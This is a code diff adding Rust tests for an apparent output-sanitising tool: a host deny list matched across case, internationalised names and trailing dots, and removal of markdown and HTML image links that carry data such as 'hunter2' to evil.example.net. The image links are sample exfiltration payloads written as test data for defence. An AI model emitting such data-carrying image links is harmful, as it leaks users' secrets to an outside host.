@@ -78,6 +78,32 @@ fn lists_hold() {
 }
 
 #[test]
+fn hosts_are_known_however_they_are_written() {
+    let config = Config {
+        deny: vec![
+            "Evil.com".into(),
+            "*.müller.de".into(),
+            "example.net.".into(),
+        ],
+        ..Config::default()
+    };
+    let config = config.checked().expect("hosts");
+    for url in [
+        "https://evil.com/",
+        "https://www.müller.de/",
+        "https://example.net./",
+    ] {
+        let code = argument(&config, "url", url).map(|fault| fault.code());
+        assert_eq!(code, Some("host"), "{url}");
+    }
+    let config = Config {
+        deny: vec!["https://evil.com/".into()],
+        ..Config::default()
+    };
+    assert!(config.checked().is_err());
+}
+
+#[test]
 fn images_that_carry_data_are_taken_out() {
     let cleaned = |text| cleaned(&Config::default(), text);
     assert_eq!(
@@ -91,5 +117,14 @@ fn images_that_carry_data_are_taken_out() {
         None
     );
     assert!(cleaned("<img src=\"https://evil.example.net/?u=ada\">").is_some());
+    for text in [
+        "![a [b] c](https://evil.example.net/p.png?d2=hunter2)",
+        "![x]( https://evil.example.net/p.png?d2=hunter2)",
+        "![x]\n\n[x]: <https://evil.example.net/p.png?d2=hunter2>",
+        "<img src = \"https://evil.example.net/p.png?d2=hunter2\">",
+    ] {
+        let cleaned = cleaned(text).unwrap_or_default();
+        assert!(!cleaned.contains("hunter2"), "{text}: {cleaned}");
+    }
     assert!(cleaned("![a][b]\n\n[b]: https://evil.example.net/?u=ada").is_some());
 }
